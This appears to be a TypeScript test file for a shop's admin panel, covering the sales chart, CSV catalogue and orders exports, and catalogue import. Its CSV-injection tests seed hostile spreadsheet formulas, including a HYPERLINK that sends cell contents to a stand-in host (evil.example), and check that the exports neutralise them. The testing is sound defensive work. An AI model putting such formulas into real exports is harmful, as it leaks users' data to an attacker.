import pg from "pg";
import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { SalesChart } from "~/components/admin/sales-chart";
import { CATALOG_COLUMNS } from "~/lib/catalog-csv";
import { csvLine, decodeCsvFile, parseCsv } from "~/lib/csv";
import { CHART } from "~/lib/sales-chart";
import { applyCatalogImport, previewCatalogImport } from "~/models/catalog-import.server";
import { streamCatalogCsv } from "~/models/exports.server";
import { loader as rootLoader } from "~/root";
import { loader as adminLayoutLoader } from "~/routes/admin";
import { loader as adminIndexLoader } from "~/routes/admin._index";
import { action as importAction } from "~/routes/admin.importar";
import { loader as catalogueCsvLoader } from "~/routes/admin.exportar.catalogo[.csv]";
import { loader as ordersCsvLoader } from "~/routes/admin.exportar.pedidos[.csv]";
import { prisma } from "~/utils/db.server";
import { createCategories, createProduct, resetDatabase } from "../db-utils";
import { createMonthOfOrders, salesBySql } from "../month-of-orders";
import { createProductWithVariant, staffSession } from "./admin-fixtures";
import { getRequest, settle } from "./auth-helpers";
import { catalogChangesPublished } from "~/models/catalog-notify.server";

/**
 * The panel's home (a chart drawn from SQL totals, in few round trips), the CSV exports and the
 * catalogue import (an export imported back changes nothing; a file with bad rows writes nothing).
 */

beforeEach(async () => {
  await resetDatabase();
  await createCategories();
});

async function seedMonth() {
  const { product: ring, variant } = await createProductWithVariant(5, 2);
  const chain = await createProduct({ name: "Cadena Veneciana", price: 1_890_00, stock: 1 });
  const customer = await staffSession("customer");
  await createMonthOfOrders({
    userId: customer.user.id,
    // The month that ends now: the page charts the last 30 days from today.
    now: new Date(),
    products: [
      { productId: ring.id, variantId: variant.id, name: ring.name, price: variant.price },
      { productId: chain.id, name: chain.name, price: chain.price },
    ],
  });
}

const attribute = (tag: string, name: string) => {
  const match = new RegExp(`\\s${name}="([^"]*)"`).exec(tag);
  if (!match) throw new Error(`${name} missing in ${tag}`);
  return match[1]!;
};

describe("the panel's home", () => {
  it("draws one bar per day whose height is the day's sales as SQL sums them", async () => {
    await seedMonth();
    const { cookie } = await staffSession("worker");
    // The chart as the server renders it from the page's own loader data.
    const outcome = await settle(() =>
      adminIndexLoader({ request: getRequest("/admin", cookie), params: {}, context: {} }),
    );
    expect(outcome.status).toBe(200);
    const { dashboard, chartLabels } = outcome.body as Awaited<ReturnType<typeof adminIndexLoader>>;
    const html = renderToStaticMarkup(createElement(SalesChart, { days: dashboard.days, labels: chartLabels }));
    const svg = /<svg[^>]*data-sales-top="(\d+)"[^>]*>([\s\S]*?)<\/svg>/.exec(html);
    expect(svg).not.toBeNull();
    const salesTop = Number(svg![1]);
    const bars = [...svg![2]!.matchAll(/<rect[^>]*data-day="[^"]*"[^>]*>/g)].map(([tag]) => ({
      day: attribute(tag, "data-day"),
      sales: Number(attribute(tag, "data-sales")),
      orders: Number(attribute(tag, "data-orders")),
      height: Number(attribute(tag, "height")),
      y: Number(attribute(tag, "y")),
    }));
    expect(bars).toHaveLength(30);

    const today = new Intl.DateTimeFormat("sv-SE", { timeZone: "America/Mexico_City" }).format(new Date());
    expect(bars.at(-1)!.day).toBe(today);
    const sql = await salesBySql();
    const plotHeight = CHART.height - CHART.top - CHART.bottom;
    const inWindow = [...sql.entries()].filter(([day]) => day >= bars[0]!.day && day <= today);
    expect(bars.reduce((sum, b) => sum + b.sales, 0)).toBe(inWindow.reduce((sum, [, v]) => sum + v.sales, 0));
    for (const bar of bars) {
      const expected = sql.get(bar.day) ?? { sales: 0, orders: 0 };
      expect({ day: bar.day, sales: bar.sales, orders: bar.orders }).toEqual({ day: bar.day, ...expected });
      expect(bar.height, bar.day).toBeCloseTo((expected.sales / salesTop) * plotHeight, 1);
      expect(bar.y + bar.height, bar.day).toBeCloseTo(CHART.top + plotHeight, 1);
    }
    expect(Math.max(...bars.map((b) => b.sales))).toBeLessThanOrEqual(salesTop);
    // The same numbers as a table for screen readers.
    expect(html).toContain("<table");
  });
});

describe("round trips of the panel's home", () => {
  let count = 0;
  const originalQuery = pg.Client.prototype.query;
  beforeAll(() => {
    pg.Client.prototype.query = function (this: pg.Client, ...args: unknown[]) {
      count += 1;
      return (originalQuery as (...a: unknown[]) => unknown).apply(this, args);
    } as typeof originalQuery;
  });
  afterAll(() => {
    pg.Client.prototype.query = originalQuery;
  });

  it("costs at most 6 database queries for the whole page (root, panel layout and home loaders)", async () => {
    await seedMonth();
    const { cookie } = await staffSession("admin");
    // Catalogue changes of the setup are still being published to other instances (server pass).
    await catalogChangesPublished();
    await prisma.$queryRaw`SELECT 1`;
    count = 0;
    const args = () => ({ request: getRequest("/admin", cookie), params: {}, context: {} });
    const outcomes = await Promise.all([
      settle(() => rootLoader(args())),
      settle(() => adminLayoutLoader(args())),
      settle(() => adminIndexLoader(args())),
    ]);
    expect(outcomes.map((o) => o.status)).toEqual([200, 200, 200]);
    console.info(`[panel home] ${count} database round trips`);
    expect(count).toBeLessThanOrEqual(6);
  });
});

async function exportedCatalogue() {
  const bytes = new Uint8Array(await new Response(streamCatalogCsv()).arrayBuffer());
  // UTF-8 with a byte-order mark, for Excel (the decoder drops the mark).
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  return decodeCsvFile(bytes);
}

/** Everything an import could change. */
async function catalogueSnapshot() {
  const [products, variants, images, audit] = await Promise.all([
    prisma.product.findMany({ orderBy: { id: "asc" }, omit: { updatedAt: true } }),
    prisma.variant.findMany({ orderBy: { id: "asc" } }),
    prisma.productImage.findMany({ orderBy: { id: "asc" } }),
    prisma.auditEntry.count(),
  ]);
  return { products, variants, images, audit };
}

async function seedCatalogue() {
  // With variants, the product's own price is its cheapest variant's (as the editor keeps it).
  const ring = await createProduct({ name: "Anillo Argolla, oro", price: 1_250_50, originalPrice: null });
  await prisma.variant.createMany({
    data: [
      {
        productId: ring.id,
        name: "Oro amarillo 14k · Talla 6",
        model: "Oro amarillo 14k",
        size: "6",
        price: 4_890_00,
        stock: 2,
      },
      {
        productId: ring.id,
        name: "Oro amarillo 14k · Talla 7",
        model: "Oro amarillo 14k",
        size: "7",
        price: 4_890_00,
        stock: 0,
      },
      { productId: ring.id, name: "Plata .925 · Talla 6", model: "Plata .925", size: "6", price: 1_250_50, stock: 4 },
    ],
  });
  await createProduct({ name: 'Collar "Luna", de plata', description: "=cuidado; con, comas\ny dos líneas", stock: 3 });
  const earrings = await createProduct({ name: "Aretes Lágrima", categoryId: 4, stock: 0 });
  await prisma.product.update({ where: { id: earrings.id }, data: { inStock: false } });
}

describe("catalogue export and import", () => {
  it("an export imported back is a no-op: nothing changes, not even the audit trail", async () => {
    await seedCatalogue();
    const { user } = await staffSession("admin");
    const csv = await exportedCatalogue();
    const before = await catalogueSnapshot();

    const preview = await previewCatalogImport(csv);
    expect(preview).toMatchObject({
      ok: true,
      applied: false,
      changes: [],
      summary: { rows: 5, created: 0, updated: 0, unchanged: 3, variantsCreated: 0, variantsChanged: 0 },
    });
    expect(await applyCatalogImport({ id: user.id, email: user.email }, csv)).toMatchObject({ ok: true, changes: [] });
    expect(await catalogueSnapshot()).toEqual(before);
    expect(await exportedCatalogue()).toBe(csv);
  });

  it("a file with 3 bad rows writes nothing and names the 3 rows and what is wrong", async () => {
    await seedCatalogue();
    const admin = await staffSession("admin");
    const parsed = parseCsv(await exportedCatalogue())!;
    const col = (name: (typeof CATALOG_COLUMNS)[number]) => parsed.header.indexOf(name);
    const rows = parsed.rows.map((r) => [...r]);
    rows[0]![col("precio")] = "mil"; // line 2
    rows[2]![col("existencias")] = "-2"; // line 4
    rows[3]![col("en_venta")] = "quizá"; // line 5
    // A good new product in the same file is not written either.
    rows.push(
      rows[4]!.map((cell, i) => (i === col("producto_id") ? "" : i === col("nombre") ? "Pulsera nueva" : cell)),
    );
    const quote = (cell: string) =>
      /[",\r\n]/.test(cell) || cell !== cell.trim() ? `"${cell.replace(/"/g, '""')}"` : cell;
    const file = [parsed.header, ...rows].map((r) => r.map(quote).join(",")).join("\r\n");
    const before = await catalogueSnapshot();

    const body = new FormData();
    body.set("intent", "preview");
    body.set("archivo", new File([file], "catalogo.csv", { type: "text/csv" }));
    const request = new Request("http://localhost/admin/importar", {
      method: "POST",
      body,
      headers: { Cookie: admin.cookie, Origin: "http://localhost" },
    });
    const outcome = await settle(() => importAction({ request, params: {}, context: {} }));
    expect(outcome.status).toBe(400);
    expect(outcome.body).toMatchObject({
      step: "preview",
      report: {
        ok: false,
        errors: [
          { line: 2, column: "Precio", message: expect.stringMatching(/precio/i) },
          { line: 4, column: "Existencias", message: "Escribe un número entero de piezas, 0 o más" },
          { line: 5, column: "En venta", message: "Escribe sí o no" },
        ],
      },
    });

    const applied = await applyCatalogImport({ id: admin.user.id, email: admin.user.email }, file);
    expect(applied.ok).toBe(false);
    expect(applied.ok ? [] : applied.errors).toHaveLength(3);
    expect(await catalogueSnapshot()).toEqual(before);
  });

  it("loads a shop of 500 pieces from one file, in one transaction", async () => {
    const { user } = await staffSession("admin");
    const header = CATALOG_COLUMNS.join(",");
    const lines = Array.from({ length: 500 }, (_, i) =>
      [
        "",
        `Pieza ${i + 1}`,
        ["Anillos", "Collares", "Pulseras", "Pendientes"][i % 4],
        "Plata .925",
        "Hecha a mano",
        "sí",
        "no",
        "no",
        "/images/products/placeholder.svg",
        "",
        i % 5 === 0 ? "Plata" : "",
        i % 5 === 0 ? "7" : "",
        "",
        `${500 + i}.50`,
        "",
        String(i % 9),
        "",
      ].join(","),
    );
    const file = [header, ...lines].join("\r\n");
    const report = await applyCatalogImport({ id: user.id, email: user.email }, file);
    expect(report).toMatchObject({ ok: true, summary: { rows: 500, created: 500, variantsCreated: 100 } });
    expect(await prisma.product.count()).toBe(500);
    // The bulk import refreshed the planner's statistics (ANALYZE): the table's row estimate is right.
    const [stats] = await prisma.$queryRaw<{ rows: number }[]>`
      SELECT reltuples::int AS rows FROM pg_class WHERE relname = 'products'`;
    expect(stats!.rows).toBe(500);

    // The same file again (issue 37): its products are found by name, nothing is created twice.
    expect(await previewCatalogImport(file)).toMatchObject({
      ok: true,
      summary: { created: 0, updated: 0, unchanged: 500 },
    });
    const again = lines.map((line, i) => (i === 0 ? line.replace(",500.50,", ",510.00,") : line));
    expect(await applyCatalogImport({ id: user.id, email: user.email }, [header, ...again].join("\r\n"))).toMatchObject(
      { ok: true, summary: { created: 0, updated: 1, unchanged: 499 } },
    );
    expect(await prisma.product.count()).toBe(500);
    expect(await previewCatalogImport(await exportedCatalogue())).toMatchObject({
      ok: true,
      summary: { created: 0, updated: 0, unchanged: 500 },
    });
  }, 180_000);
});

describe("orders export", () => {
  it("streams the orders of a status as Excel-ready CSV, and refuses a bad date range in Spanish", async () => {
    await seedMonth();
    const { cookie } = await staffSession("worker");
    const outcome = await ordersCsvLoader({
      request: getRequest("/admin/exportar/pedidos.csv?estado=procesando", cookie),
      params: {},
      context: {},
    });
    expect(outcome.headers.get("Content-Type")).toMatch(/^text\/csv; ?charset=utf-8/i);
    expect(outcome.headers.get("Content-Disposition")).toMatch(/attachment; filename="?pedidos/);
    const bytes = new Uint8Array(await outcome.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = decodeCsvFile(bytes);
    const csv = parseCsv(text)!;
    const expected = await prisma.order.count({ where: { status: "procesando" } });
    expect(expected).toBeGreaterThan(0);
    expect(csv.rows).toHaveLength(expected);
    expect(new Set(csv.rows.map((r) => r[csv.header.indexOf("estado")]))).toEqual(new Set(["Procesando"]));

    const bad = await settle(() =>
      ordersCsvLoader({
        request: getRequest("/admin/exportar/pedidos.csv?desde=2026-13-40", cookie),
        params: {},
        context: {},
      }),
    );
    expect(bad.status).toBe(400);
  });
});

/** The cells of a CSV line as a spreadsheet that splits on `separator` sees them (quotes honoured). */
function spreadsheetCells(text: string, separator: "," | ";"): string[] {
  const cells: string[] = [];
  let cell = "";
  let quoted = false;
  for (const char of text) {
    if (char === '"') quoted = !quoted;
    else if (!quoted && char === separator) {
      cells.push(cell);
      cell = "";
    } else if (!quoted && (char === "\n" || char === "\r")) {
      if (cell !== "") cells.push(cell);
      cell = "";
    } else cell += char;
  }
  cells.push(cell);
  return cells;
}

describe("CSV injection (a hostile name or address opened in Excel)", () => {
  const hostileName = 'Ciudad;=HYPERLINK("http://evil.example/?d="&A1,"Ver")';

  it("the export route quotes and neutralises them for both list separators, and the import reads them back", async () => {
    await createProduct({ name: hostileName, description: "'=ya con apóstrofo", material: "-plata;+oro" });
    await createProduct({ name: "@SUMA(A1)", description: "l'arte", material: null });
    const admin = await staffSession("admin");
    const outcome = await catalogueCsvLoader({
      request: getRequest("/admin/exportar/catalogo.csv", admin.cookie),
      params: {},
      context: {},
    });
    const text = decodeCsvFile(new Uint8Array(await outcome.arrayBuffer()));
    for (const separator of [",", ";"] as const) {
      for (const cell of spreadsheetCells(text, separator)) expect(cell, separator).not.toMatch(/^\s*[=+\-@\t\r]/);
    }
    expect(text).toContain(`"${hostileName.replace(/"/g, '""')}"`);
    expect(text).toContain(`"'@SUMA(A1)"`);

    // Imported back as it is: nothing changes (no apostrophe ends up in a name).
    expect(await previewCatalogImport(text)).toMatchObject({ ok: true, summary: { unchanged: 2, updated: 0 } });
    // Imported as new products: the same values exactly.
    const parsed = parseCsv(text)!;
    const id = parsed.header.indexOf("producto_id");
    const rows = parsed.rows.map((row) => row.map((cell, i) => (i === id ? "" : cell)));
    await prisma.product.deleteMany();
    const file = [parsed.header, ...rows].map((row) => csvLine(row)).join("");
    expect(await applyCatalogImport({ id: admin.user.id, email: admin.user.email }, file)).toMatchObject({
      ok: true,
      summary: { created: 2 },
    });
    const products = await prisma.product.findMany({
      orderBy: { name: "asc" },
      select: { name: true, description: true, material: true },
    });
    expect(products).toEqual([
      { name: "@SUMA(A1)", description: "l'arte", material: null },
      { name: hostileName, description: "'=ya con apóstrofo", material: "-plata;+oro" },
    ]);
  });

  it("the orders export keeps an address's `;=1+2` in its own quoted cell", async () => {
    await seedMonth();
    const order = await prisma.order.findFirstOrThrow({ orderBy: { id: "asc" }, select: { id: true, userId: true } });
    await prisma.address.create({
      data: {
        orderId: order.id,
        userId: order.userId,
        name: '=HYPERLINK("http://evil.example")',
        phone: "5512345678",
        addressLine1: "Calle 1",
        addressLine2: "Centro",
        city: "Puebla;=1+2",
        state: "Puebla",
        postalCode: "72000",
      },
    });
    const { cookie } = await staffSession("worker");
    const outcome = await ordersCsvLoader({
      request: getRequest("/admin/exportar/pedidos.csv", cookie),
      params: {},
      context: {},
    });
    const text = decodeCsvFile(new Uint8Array(await outcome.arrayBuffer()));
    expect(text).toContain('"Puebla;=1+2"');
    for (const separator of [",", ";"] as const) {
      for (const cell of spreadsheetCells(text, separator)) expect(cell, separator).not.toMatch(/^\s*[=+\-@\t\r]/);
    }
    const row = parseCsv(text)!.rows.find((r) => r.includes("Puebla;=1+2"))!;
    expect(row).toContain('=HYPERLINK("http://evil.example")');
  });
});
